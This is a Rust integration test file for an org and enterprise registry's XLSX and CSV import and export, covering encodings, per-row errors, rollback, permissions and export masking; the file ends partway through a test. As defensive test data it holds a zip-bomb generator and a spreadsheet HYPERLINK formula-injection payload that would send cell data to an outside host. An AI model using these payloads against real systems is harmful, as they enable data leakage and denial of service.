//! Import and export of orgs and enterprises: XLSX and CSV (UTF-8, GBK), previews
//! with per-row errors in the caller's language, all-or-nothing commits, the
//! caller's subtree, audit entries, and files built to hurt.

use std::io::{Cursor, Write};

use qingting::{db::Backend, enterprise::CreditCode};
use reqwest::{
    Client, StatusCode,
    multipart::{Form, Part},
};
use serde_json::{Value, json};

use crate::helpers::{Api, TestApp};

// ---- files ----

/// A valid credit code of Yangpu, distinct for each `n`.
fn credit(n: u32) -> String {
    CreditCode::with_check(&format!("91310110MA1{n:06}"))
        .unwrap()
        .as_str()
        .to_string()
}

/// `code` with a wrong check character.
fn broken(code: &str) -> String {
    let last = if code.ends_with('0') { "1" } else { "0" };
    format!("{}{last}", &code[..17])
}

const ENT_HEADER: [&str; 6] = [
    "单位名称",
    "统一社会信用代码",
    "所属组织代码",
    "基层工会代码",
    "新就业形态劳动者",
    "联系电话",
];

/// An enterprise row under [`ENT_HEADER`].
fn ent(name: &str, code: &str, org: &str) -> Vec<String> {
    [name, code, org, "", "", "13800138000"]
        .iter()
        .map(|s| s.to_string())
        .collect()
}

fn table(header: &[&str], rows: &[Vec<String>]) -> Vec<Vec<String>> {
    std::iter::once(header.iter().map(|s| s.to_string()).collect())
        .chain(rows.iter().cloned())
        .collect()
}

/// CSV text (cells here never need quoting).
fn csv_text(rows: &[Vec<String>]) -> String {
    rows.iter()
        .map(|r| r.join(","))
        .collect::<Vec<_>>()
        .join("\r\n")
        + "\r\n"
}

fn gbk(text: &str) -> Vec<u8> {
    let (bytes, _, unmappable) = encoding_rs::GBK.encode(text);
    assert!(!unmappable);
    assert!(
        std::str::from_utf8(&bytes).is_err(),
        "GBK must not be UTF-8"
    );
    bytes.into_owned()
}

fn with_bom(text: &str) -> Vec<u8> {
    let mut b = b"\xEF\xBB\xBF".to_vec();
    b.extend_from_slice(text.as_bytes());
    b
}

/// An XLSX of strings, with a title row above the header when `title` is given.
fn xlsx(title: Option<&str>, rows: &[Vec<String>]) -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let mut r = 0;
    if let Some(t) = title {
        sheet.write_string(0, 0, t).unwrap();
        r = 2;
    }
    for row in rows {
        for (c, v) in row.iter().enumerate() {
            if !v.is_empty() {
                sheet.write_string(r, c as u16, v).unwrap();
            }
        }
        r += 1;
    }
    book.save_to_buffer().unwrap()
}

/// The first worksheet of an XLSX as text, and the names of its sheets.
fn read_xlsx(bytes: &[u8]) -> (Vec<Vec<String>>, Vec<String>) {
    use calamine::Reader;
    let mut book = calamine::Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let names = book.sheet_names();
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    let rows = range
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    (rows, names)
}

/// A CSV export as text rows (it starts with a BOM).
fn read_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("exports carry a BOM");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// A zip named like a workbook whose one part inflates to `mb` MB of zeros.
fn zip_bomb(mb: usize) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    {
        let mut w = zip::ZipWriter::new(&mut out);
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated);
        w.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
        let chunk = vec![0u8; 1 << 20];
        for _ in 0..mb {
            w.write_all(&chunk).unwrap();
        }
        w.finish().unwrap();
    }
    out.into_inner()
}

// ---- requests ----

fn file_form(name: &str, bytes: &[u8]) -> Form {
    Form::new().part(
        "file",
        Part::bytes(bytes.to_vec()).file_name(name.to_string()),
    )
}

/// `POST /api/v1/import/{kind}`, optionally committing at once or in another language.
async fn upload(
    api: &Api,
    kind: &str,
    name: &str,
    bytes: &[u8],
    commit: bool,
    lang: Option<&str>,
) -> (StatusCode, Value) {
    let mut req = api
        .client
        .post(format!("{}/api/v1/import/{kind}?commit={commit}", api.base))
        .bearer_auth(&api.token)
        .multipart(file_form(name, bytes));
    if let Some(l) = lang {
        req = req.header("Accept-Language", l);
    }
    let res = req.send().await.unwrap();
    let status = res.status();
    (status, res.json().await.unwrap_or(Value::Null))
}

/// `POST /api/v1/imports/{id}/commit`.
async fn commit(api: &Api, id: i64) -> (StatusCode, Value) {
    api.post(&format!("/api/v1/imports/{id}/commit"), json!({}))
        .await
}

/// Uploads a file that must be clean and returns its staged id.
async fn stage(api: &Api, kind: &str, name: &str, bytes: &[u8]) -> i64 {
    let (status, body) = upload(api, kind, name, bytes, false, None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["committed"], false);
    body["import_id"].as_i64().unwrap()
}

/// How many enterprises the caller sees.
async fn visible_enterprises(api: &Api) -> i64 {
    let (status, list) = api.get("/api/v1/enterprises").await;
    assert_eq!(status, StatusCode::OK, "{list}");
    list["total"].as_i64().unwrap()
}

async fn count(app: &TestApp, table: &str) -> i64 {
    sqlx::query_scalar(sqlx::AssertSqlSafe(format!("SELECT COUNT(*) FROM {table}")))
        .fetch_one(app.db.pool())
        .await
        .unwrap()
}

/// The (row, column, field) of each row error of a preview.
fn issues(body: &Value) -> Vec<(i64, String, String)> {
    body["preview"]["errors"]
        .as_array()
        .unwrap_or_else(|| panic!("no preview errors in {body}"))
        .iter()
        .map(|e| {
            (
                e["row"].as_i64().unwrap(),
                e["column"].as_str().unwrap().to_string(),
                e["field"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn message(body: &Value, i: usize) -> String {
    body["preview"]["errors"][i]["message"]
        .as_str()
        .unwrap()
        .to_string()
}

/// The single field error of a refused file, as (field, message).
fn file_error(body: &Value) -> (String, String) {
    let f = &body["error"]["fields"];
    assert_eq!(f.as_array().map(Vec::len), Some(1), "{body}");
    (
        f[0]["field"].as_str().unwrap().to_string(),
        f[0]["message"].as_str().unwrap().to_string(),
    )
}

async fn download(c: &Client, app: &TestApp, path: &str) -> (StatusCode, String, Vec<u8>) {
    let res = c.get(app.url(path)).send().await.unwrap();
    let status = res.status();
    let ctype = res
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_string();
    (status, ctype, res.bytes().await.unwrap().to_vec())
}

// ---- enterprises ----

#[tokio::test]
async fn enterprises_import_from_xlsx_gbk_csv_and_utf8_csv_with_and_without_bom() {
    let app = TestApp::spawn().await;
    let api = app.api("a.cadre").await;
    let names = [
        ["上海华信物流有限公司", "杨浦申城快递服务有限公司"],
        ["东方网络科技有限公司", "滨江餐饮管理有限公司"],
        ["复兴建设工程有限公司", "杨树浦商贸有限公司"],
        ["五角场信息技术有限公司", "长江运输股份有限公司"],
    ];
    let rows = |i: usize| {
        let n = i as u32 * 10;
        vec![
            ent(names[i][0], &credit(n + 1), "STA"),
            // The union is optional; the jurisdiction may be any org in the subtree.
            {
                let mut r = ent(names[i][1], &credit(n + 2), "UA");
                r[3] = "UA".into();
                r[4] = "快递员、外卖送餐员".into();
                r
            },
        ]
    };
    let files: [(&str, Vec<u8>); 4] = [
        (
            "企业名单.xlsx",
            xlsx(Some("2019年企业名单"), &table(&ENT_HEADER, &rows(0))),
        ),
        (
            "企业名单-gbk.csv",
            gbk(&csv_text(&table(&ENT_HEADER, &rows(1)))),
        ),
        (
            "企业名单-utf8.csv",
            csv_text(&table(&ENT_HEADER, &rows(2))).into_bytes(),
        ),
        (
            "企业名单-bom.csv",
            with_bom(&csv_text(&table(&ENT_HEADER, &rows(3)))),
        ),
    ];
    for (i, (name, bytes)) in files.iter().enumerate() {
        let (status, body) = upload(&api, "enterprises", name, bytes, false, None).await;
        assert_eq!(status, StatusCode::OK, "{name}: {body}");
        let p = &body["preview"];
        assert_eq!(p["kind"], "enterprises");
        assert_eq!(p["filename"], *name);
        assert_eq!(
            (p["rows"].as_i64(), p["valid_rows"].as_i64()),
            (Some(2), Some(2)),
            "{name}"
        );
        assert_eq!(p["errors"], json!([]), "{name}");
        assert_eq!(p["header_row"], if i == 0 { 3 } else { 1 }, "{name}");
        // The sample shows the decoded text.
        assert_eq!(p["sample"][0]["cells"][0], names[i][0], "{name}: {p}");
        assert_eq!(p["sample"][1]["cells"][0], names[i][1], "{name}");
        assert_eq!(
            visible_enterprises(&api).await,
            2 * i as i64,
            "a preview writes nothing"
        );
        let id = body["import_id"].as_i64().unwrap();
        let (status, done) = commit(&api, id).await;
        assert_eq!(status, StatusCode::CREATED, "{name}: {done}");
        assert_eq!(
            (done["committed"].as_bool(), done["created"].as_i64()),
            (Some(true), Some(2))
        );
        assert_eq!(visible_enterprises(&api).await, 2 * (i as i64 + 1));
    }
    // Every row arrived with its text, jurisdiction, union and groups.
    for (i, pair) in names.iter().enumerate() {
        let n = i as u32 * 10;
        let (_, list) = api
            .get(&format!("/api/v1/enterprises?q={}", credit(n + 2)))
            .await;
        assert_eq!(list["total"], 1, "{list}");
        let e = &list["items"][0];
        assert_eq!(e["name"], pair[1]);
        assert_eq!(e["org_code"], "UA");
        assert_eq!(e["union_org_code"], "UA");
        assert_eq!(e["has_union"], true);
        assert_eq!(e["groups"], json!(["courier", "food_delivery"]), "{e}");
        let (_, list) = api
            .get(&format!("/api/v1/enterprises?q={}", credit(n + 1)))
            .await;
        assert_eq!(list["items"][0]["name"], pair[0]);
        assert_eq!(list["items"][0]["org_code"], "STA");
    }
    assert_eq!(app.audit_count("import").await, 4);
    // Another street sees none of them.
    assert_eq!(visible_enterprises(&app.api("b.cadre").await).await, 0);
}

#[tokio::test]
async fn row_errors_name_the_row_the_column_and_the_reason_in_the_callers_language() {
    let app = TestApp::spawn().await;
    let api = app.api("a.cadre").await;
    let file = csv_text(&table(
        &ENT_HEADER,
        &[
            ent("甲公司", &credit(1), "STA"),
            ent("乙公司", &broken(&credit(2)), "STA"),
            ent("", &credit(3), "STA"),
            ent("丁公司", &credit(4), "STB"),
        ],
    ));
    let want = vec![
        (3, "统一社会信用代码".to_string(), "credit_code".to_string()),
        (4, "单位名称".to_string(), "name".to_string()),
        (5, "所属组织代码".to_string(), "org_code".to_string()),
    ];

    // Chinese by default.
    let (status, body) = upload(&api, "enterprises", "e.csv", file.as_bytes(), false, None).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(issues(&body), want, "{body}");
    assert_eq!(body["error"]["code"], "validation");
    assert_eq!(body["error"]["message"], "填写的内容有误，请检查后重试。");
    assert_eq!(
        body["error"]["fields"][0]["field"],
        "row 3, 统一社会信用代码"
    );
    assert_eq!(body["error"]["fields"][2]["field"], "row 5, 所属组织代码");
    let expected = credit(2).chars().last().unwrap();
    assert!(
        message(&body, 0).contains("校验位"),
        "{}",
        message(&body, 0)
    );
    assert!(message(&body, 0).contains(&format!("“{expected}”")));
    assert_eq!(message(&body, 1), "“名称”不能为空。");
    assert!(
        message(&body, 2).contains("权限范围"),
        "{}",
        message(&body, 2)
    );
    let p = &body["preview"];
    assert_eq!(
        (p["rows"].as_i64(), p["valid_rows"].as_i64()),
        (Some(4), Some(1))
    );
    assert_eq!(
        body["import_id"],
        Value::Null,
        "a file with errors is not staged"
    );
    let ok: Vec<bool> = p["sample"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["ok"].as_bool().unwrap())
        .collect();
    assert_eq!(ok, [true, false, false, false]);

    // English for an API client asking for it; the columns stay as the file wrote them.
    let (status, body) = upload(
        &api,
        "enterprises",
        "e.csv",
        file.as_bytes(),
        false,
        Some("en-US,en;q=0.9"),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(issues(&body), want);
    assert_eq!(
        body["error"]["message"],
        "Some fields are not right; please check them."
    );
    assert!(
        message(&body, 0).contains("check character"),
        "{}",
        message(&body, 0)
    );
    assert_eq!(message(&body, 1), "\"Name\" is required.");
    assert!(
        message(&body, 2).contains("within your reach"),
        "{}",
        message(&body, 2)
    );

    // English headers name English columns.
    let en_header = ["Name", "Credit code", "Org code"];
    let en_file = csv_text(&table(
        &en_header,
        &[vec!["Acme".into(), broken(&credit(5)), "STA".into()]],
    ));
    let (_, body) = upload(
        &api,
        "enterprises",
        "e.csv",
        en_file.as_bytes(),
        false,
        Some("en"),
    )
    .await;
    assert_eq!(
        issues(&body),
        [(2, "Credit code".to_string(), "credit_code".to_string())]
    );

    // The upload page follows the language cookie and shows the same rows.
    let web = app.browser("a.cadre").await;
    let page = |c: &Client| {
        c.post(app.url("/import"))
            .multipart(Form::new().text("kind", "enterprises").part(
                "file",
                Part::bytes(file.clone().into_bytes()).file_name("企业.csv"),
            ))
    };
    let res = page(&web).send().await.unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let html = res.text().await.unwrap();
    assert!(html.contains("文件中有错误，未导入任何数据"), "{html}");
    assert!(html.contains("校验位（第 18 位）不正确"));
    assert!(html.contains("<td data-label=\"行号\">5</td>"), "{html}");
    assert!(
        !html.contains("/commit"),
        "no commit button for a file with errors"
    );
    let res = web
        .post(app.url("/lang"))
        .form(&[("lang", "en"), ("back", "/import")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::SEE_OTHER);
    let html = page(&web).send().await.unwrap().text().await.unwrap();
    assert!(
        html.contains("The file has errors and nothing was imported"),
        "{html}"
    );
    assert!(html.contains("the check character (the 18th) is wrong"));

    assert_eq!(visible_enterprises(&api).await, 0);
    assert_eq!(count(&app, "pending_imports").await, 0);
    assert_eq!(app.audit_count("import").await, 0);
}

#[tokio::test]
async fn a_file_with_one_bad_row_imports_nothing_even_when_asked_to_commit() {
    let app = TestApp::spawn().await;
    let api = app.api("a.cadre").await;
    let mut rows = vec![
        ent("甲公司", &credit(1), "STA"),
        ent("乙公司", &credit(2), "UA"),
        ent("丙公司", &credit(3), "STA"),
    ];
    rows[1][5] = "12345".into(); // not a phone number
    let bad = xlsx(None, &table(&ENT_HEADER, &rows));
    let (status, body) = upload(&api, "enterprises", "e.xlsx", &bad, true, None).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        issues(&body),
        [(3, "联系电话".to_string(), "contact_phone".to_string())]
    );
    assert_eq!(visible_enterprises(&api).await, 0);
    assert_eq!(count(&app, "pending_imports").await, 0);

    rows[1][5] = "021-25032214".into();
    let good = xlsx(None, &table(&ENT_HEADER, &rows));
    let (status, body) = upload(&api, "enterprises", "e.xlsx", &good, true, None).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["created"], 3);
    assert_eq!(visible_enterprises(&api).await, 3);

    // The same file again: every code is taken now, and nothing is added.
    let (status, body) = upload(&api, "enterprises", "e.xlsx", &good, true, None).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let fields: Vec<String> = issues(&body).into_iter().map(|i| i.2).collect();
    assert_eq!(fields, ["credit_code"; 3]);
    assert_eq!(
        message(&body, 0),
        "该统一社会信用代码已经登记过，不能重复登记。"
    );
    assert_eq!(visible_enterprises(&api).await, 3);
}

#[tokio::test]
async fn a_code_taken_between_preview_and_commit_leaves_nothing() {
    let app = TestApp::spawn().await;
    let api = app.api("a.cadre").await;
    let file = csv_text(&table(
        &ENT_HEADER,
        &[
            ent("甲公司", &credit(1), "STA"),
            ent("乙公司", &credit(2), "STA"),
            ent("丙公司", &credit(3), "UA"),
        ],
    ));
    let id = stage(&api, "enterprises", "e.csv", file.as_bytes()).await;
    // Someone registers the third code before the commit.
    let other = app.api("district.admin").await;
    let (status, e) = other
        .post(
            "/api/v1/enterprises",
            json!({"name": "抢先公司", "credit_code": credit(3), "org_code": "STB"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{e}");
    let (status, body) = commit(&api, id).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        issues(&body),
        [(4, "统一社会信用代码".to_string(), "credit_code".to_string())]
    );
    assert_eq!(
        count(&app, "enterprises").await,
        1,
        "rows 2 and 3 were not kept"
    );
    assert_eq!(app.audit_count("import").await, 0);
    // The upload stays uncommitted: it can be retried, and fails the same way.
    let (status, _) = commit(&api, id).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(count(&app, "enterprises").await, 1);
}

/// Installs a trigger that registers `steal` as a side effect of inserting `when`:
/// the next insert of `steal` then fails on the unique constraint, inside the
/// import's transaction, after the checks passed.
async fn steal_on_insert(app: &TestApp, when: &str, steal: &str) {
    let insert = format!(
        "INSERT INTO enterprises (org_id, name, credit_code, sort_key, created_at, updated_at) \
         VALUES (NEW.org_id, '抢先', '{steal}', 'qiang xian', 0, 0)"
    );
    let statements = match app.db.backend() {
        Backend::Sqlite => vec![format!(
            "CREATE TRIGGER steal AFTER INSERT ON enterprises WHEN NEW.credit_code = '{when}' \
             BEGIN {insert}; END"
        )],
        Backend::Postgres => vec![
            format!(
                "CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN \
                 IF NEW.credit_code = '{when}' THEN {insert}; END IF; RETURN NULL; END $$"
            ),
            "CREATE TRIGGER steal AFTER INSERT ON enterprises FOR EACH ROW EXECUTE FUNCTION steal()"
                .to_string(),
        ],
    };
    for s in statements {
        sqlx::query(sqlx::AssertSqlSafe(s))
            .execute(app.db.pool())
            .await
            .unwrap();
    }
}

#[tokio::test]
async fn a_failure_while_inserting_rolls_back_every_row_and_the_upload_can_be_retried() {
    let app = TestApp::spawn().await;
    let api = app.api("a.cadre").await;
    let codes = [credit(1), credit(2), credit(3)];
    let file = csv_text(&table(
        &ENT_HEADER,
        &[
            ent("甲公司", &codes[0], "STA"),
            ent("乙公司", &codes[1], "STA"),
            ent("丙公司", &codes[2], "STA"),
        ],
    ));
    let id = stage(&api, "enterprises", "e.csv", file.as_bytes()).await;
    steal_on_insert(&app, &codes[0], &codes[2]).await;
    let (status, body) = commit(&api, id).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        issues(&body),
        [(4, "统一社会信用代码".to_string(), "credit_code".to_string())]
    );
    assert_eq!(body["preview"]["valid_rows"], 2);
    assert_eq!(
        count(&app, "enterprises").await,
        0,
        "rows 2 and 3 and the stolen code were rolled back"
    );
    assert_eq!(app.audit_count("import").await, 0);
    let committed: Option<i64> =
        sqlx::query_scalar("SELECT committed_at FROM pending_imports WHERE id = $1")
            .bind(id)
            .fetch_one(app.db.pool())
            .await
            .unwrap();
    assert_eq!(committed, None);
    // Without the interference the same upload goes in.
    let drop = match app.db.backend() {
        Backend::Sqlite => "DROP TRIGGER steal",
        Backend::Postgres => "DROP TRIGGER steal ON enterprises",
    };
    sqlx::query(drop).execute(app.db.pool()).await.unwrap();
    let (status, body) = commit(&api, id).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(count(&app, "enterprises").await, 3);
}

#[tokio::test]
async fn committing_the_same_upload_again_imports_nothing_more() {
    let app = TestApp::spawn().await;
    let api = app.api("a.cadre").await;
    let file = csv_text(&table(
        &ENT_HEADER,
        &[
            ent("甲公司", &credit(1), "STA"),
            ent("乙公司", &credit(2), "UA"),
        ],
    ));
    let id = stage(&api, "enterprises", "e.csv", file.as_bytes()).await;
    let (status, _) = commit(&api, id).await;
    assert_eq!(status, StatusCode::CREATED);
    let (status, body) = commit(&api, id).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(body["error"]["fields"][0]["field"], "file");
    assert_eq!(
        body["error"]["fields"][0]["message"],
        "这个文件已经导入过了，不会重复导入。"
    );
    assert_eq!(visible_enterprises(&api).await, 2);
    assert_eq!(app.audit_count("import").await, 1);

    // Through the pages: two commits at once import once.
    let file = csv_text(&table(
        &ENT_HEADER,
        &[
            ent("丙公司", &credit(3), "STA"),
            ent("丁公司", &credit(4), "STA"),
        ],
    ));
    let web = app.browser("a.cadre").await;
    let res = web
        .post(app.url("/import"))
        .multipart(
            Form::new()
                .text("kind", "enterprises")
                .part("file", Part::bytes(file.into_bytes()).file_name("e.csv")),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let html = res.text().await.unwrap();
    assert!(html.contains("全部 2 行检查无误"), "{html}");
    let id: i64 = html
        .split("action=\"/import/")
        .nth(1)
        .and_then(|s| s.split('/').next())
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no commit form in {html}"));
    let post = || web.post(app.url(&format!("/import/{id}/commit"))).send();
    let (a, b) = tokio::join!(post(), post());
    let mut statuses = [a.unwrap().status(), b.unwrap().status()];
    statuses.sort();
    assert_eq!(statuses, [StatusCode::OK, StatusCode::UNPROCESSABLE_ENTITY]);
    assert_eq!(visible_enterprises(&api).await, 4);
    assert_eq!(app.audit_count("import").await, 2);
    // The staged upload now says when it was imported.
    let res = web
        .get(app.url(&format!("/import/{id}")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert!(res.text().await.unwrap().contains("这个文件已于"));
    let res = web
        .post(app.url(&format!("/import/{id}/commit")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(visible_enterprises(&api).await, 4);
}

// ---- orgs ----

const ORG_HEADER: [&str; 5] = ["代码", "名称", "类型", "上级代码", "电话"];

fn org_row(code: &str, name: &str, kind: &str, parent: &str) -> Vec<String> {
    [code, name, kind, parent, ""]
        .iter()
        .map(|s| s.to_string())
        .collect()
}

#[tokio::test]
async fn orgs_import_under_a_parent_in_the_callers_subtree() {
    let app = TestApp::spawn().await;
    let admin = app.api("a.admin").await;
    let file = csv_text(&table(
        &ORG_HEADER,
        &[
            org_row("UA2", "甲二公司工会", "基层工会", "STA"),
            org_row("UA3", "甲三公司工会", "grassroots", "ua"),
            org_row("UA4", "甲四分会", "基层工会", "UA2"),
        ],
    ));
    let (status, body) = upload(&admin, "orgs", "组织.csv", file.as_bytes(), false, None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["preview"]["rows"], 3);
    let id = body["import_id"].as_i64().unwrap();
    let (status, body) = commit(&admin, id).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    assert_eq!(body["created"], 3);
    let (_, kids) = admin
        .get(&format!("/api/v1/orgs?parent={}", app.street_a.0))
        .await;
    let mut codes = crate::helpers::codes(&kids);
    codes.sort();
    assert_eq!(codes, ["UA", "UA2"]);
    let (_, found) = admin.get("/api/v1/orgs?q=UA4").await;
    assert_eq!(crate::helpers::codes(&found), ["UA4"]);
    // A cadre of street B does not see them.
    let (_, found) = app.api("b.cadre").await.get("/api/v1/orgs?q=UA4").await;
    assert_eq!(found, json!([]));
    assert_eq!(app.audit_count("import").await, 1);

    // The district admin may hang a new street under the district, and its union under it.
    let district = app.api("district.admin").await;
    let file = xlsx(
        None,
        &table(
            &ORG_HEADER,
            &[
                org_row("STC", "丙街道总工会", "街道工会", "DIST"),
                org_row("UC", "丙公司工会", "基层工会", "STC"),
            ],
        ),
    );
    let (status, body) = upload(&district, "orgs", "o.xlsx", &file, true, None).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (_, found) = district.get("/api/v1/orgs?q=UC").await;
    assert!(
        crate::helpers::codes(&found).contains(&"UC".to_string()),
        "{found}"
    );
}

#[tokio::test]
async fn orgs_under_a_parent_outside_the_subtree_are_refused() {
    let app = TestApp::spawn().await;
    let admin = app.api("a.admin").await;
    let before = count(&app, "orgs").await;
    let file = csv_text(&table(
        &ORG_HEADER,
        &[
            org_row("UA2", "甲二公司工会", "基层工会", "STA"),
            org_row("UB2", "乙二公司工会", "基层工会", "STB"),
            org_row("ST9", "新街道", "街道工会", "DIST"),
            org_row("UA", "重复代码", "基层工会", "STA"),
            org_row("D2", "部室下的工会", "基层工会", "DEPT"),
        ],
    ));
    let (status, body) = upload(&admin, "orgs", "o.csv", file.as_bytes(), true, None).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        issues(&body),
        [
            (3, "上级代码".to_string(), "parent_code".to_string()),
            (4, "上级代码".to_string(), "parent_code".to_string()),
            (5, "代码".to_string(), "code".to_string()),
            (6, "上级代码".to_string(), "parent_code".to_string()),
        ]
    );
    assert!(
        message(&body, 0).contains("权限范围"),
        "{}",
        message(&body, 0)
    );
    assert_eq!(message(&body, 2), "代码已被其他组织使用。");
    assert_eq!(count(&app, "orgs").await, before, "not even UA2");
    // A cadre may not import orgs at all.
    let cadre = app.api("a.cadre").await;
    let ok = csv_text(&table(
        &ORG_HEADER,
        &[org_row("UA2", "甲二", "基层工会", "STA")],
    ));
    let (status, body) = upload(&cadre, "orgs", "o.csv", ok.as_bytes(), false, None).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(body["error"]["code"], "forbidden");
    assert_eq!(count(&app, "orgs").await, before);
}

// ---- exports ----

/// Imports enterprises in street A (a.cadre) and street B (b.cadre).
async fn two_streets_of_enterprises(app: &TestApp) {
    for (user, org, base) in [("a.cadre", "STA", 100), ("b.cadre", "STB", 200)] {
        let mut second = ent(&format!("{org}二号公司"), &credit(base + 2), org);
        second[3] = if org == "STA" { "UA" } else { "UB" }.into();
        let file = csv_text(&table(
            &ENT_HEADER,
            &[
                ent(&format!("{org}一号公司"), &credit(base + 1), org),
                second,
            ],
        ));
        let (status, body) = upload(
            &app.api(user).await,
            "enterprises",
            "e.csv",
            file.as_bytes(),
            true,
            None,
        )
        .await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
    }
}

#[tokio::test]
async fn exports_hold_exactly_the_callers_subtree_and_are_audited() {
    let app = TestApp::spawn().await;
    two_streets_of_enterprises(&app).await;
    let web = app.browser("a.cadre").await;
    let audits = app.audit_count("export").await;

    let (status, ctype, bytes) = download(&web, &app, "/api/v1/export/enterprises.xlsx").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        ctype.starts_with("application/vnd.openxmlformats"),
        "{ctype}"
    );
    let (rows, _) = read_xlsx(&bytes);
    assert_eq!(rows[0][..3], ["单位名称", "统一社会信用代码", "行业"]);
    let org_col = rows[0].iter().position(|h| h == "所属组织代码").unwrap();
    let code_col = 1;
    let mut got: Vec<(String, String)> = rows[1..]
        .iter()
        .map(|r| (r[code_col].clone(), r[org_col].clone()))
        .collect();
    got.sort();
    assert_eq!(
        got,
        [
            (credit(101), "STA".to_string()),
            (credit(102), "STA".to_string())
        ]
    );
    let phone_col = rows[0].iter().position(|h| h == "联系电话").unwrap();
    assert_eq!(
        rows[1][phone_col], "13800138000",
        "a cadre sees the phones of the subtree"
    );

    let (status, ctype, bytes) = download(&web, &app, "/api/v1/export/enterprises.csv").await;
    assert_eq!(status, StatusCode::OK);
    assert!(ctype.starts_with("text/csv"), "{ctype}");
    let csv_rows = read_csv(&bytes);
    assert_eq!(csv_rows, rows, "the CSV holds what the XLSX holds");
    assert!(!String::from_utf8_lossy(&bytes).contains("STB"));

    let (_, _, bytes) = download(&web, &app, "/api/v1/export/orgs.xlsx").await;
    let (rows, _) = read_xlsx(&bytes);
    assert_eq!(rows[0][..5], ["代码", "名称", "简称", "类型", "上级代码"]);
    let mut codes: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    codes.sort();
    assert_eq!(codes, ["STA", "UA"]);
    let (_, _, bytes) = download(&web, &app, "/api/v1/export/orgs.csv").await;
    let mut codes: Vec<String> = read_csv(&bytes)[1..].iter().map(|r| r[0].clone()).collect();
    codes.sort();
    assert_eq!(codes, ["STA", "UA"]);
    assert_eq!(app.audit_count("export").await, audits + 4);

    // The district admin exports everything; a viewer gets masked phones.
    let (_, _, bytes) = download(
        &app.browser("district.admin").await,
        &app,
        "/api/v1/export/orgs.csv",
    )
    .await;
    assert_eq!(read_csv(&bytes).len(), 1 + 6);
    let (_, _, bytes) = download(
        &app.browser("a.viewer").await,
        &app,
        "/api/v1/export/enterprises.csv",
    )
    .await;
    let rows = read_csv(&bytes);
    assert_eq!(rows.len(), 3);
    assert!(
        rows[1..].iter().all(|r| r[phone_col] == "138****8000"),
        "{rows:?}"
    );
    // Exports work with an API token too.
    let api = app.api("b.cadre").await;
    let res = api
        .client
        .get(app.url("/api/v1/export/enterprises.csv"))
        .bearer_auth(&api.token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    let rows = read_csv(&res.bytes().await.unwrap());
    assert_eq!(rows.len(), 3);
    assert!(rows[1..].iter().all(|r| r[org_col] == "STB"));
    assert_eq!(app.audit_count("export").await, audits + 7);
}

#[tokio::test]
async fn a_formula_typed_as_a_name_is_not_a_formula_in_exports() {
    let app = TestApp::spawn().await;
    let api = app.api("a.cadre").await;
    let name = "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")";
    let (status, e) = api
        .post(
            "/api/v1/enterprises",
            json!({"name": name, "credit_code": credit(1), "org_code": "STA", "contact_person": "@SUM(A1)"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{e}");
    let web = app.browser("a.cadre").await;
    let (_, _, bytes) = download(&web, &app, "/api/v1/export/enterprises.csv").await;
    let rows = read_csv(&bytes);
    assert_eq!(
        rows[1][0],
        format!("'{name}"),
        "Excel shows the text instead of running it"
    );
    let person = rows[0].iter().position(|h| h == "联系人").unwrap();
    assert_eq!(rows[1][person], "'@SUM(A1)");
    // The XLSX holds plain strings, no formulas.
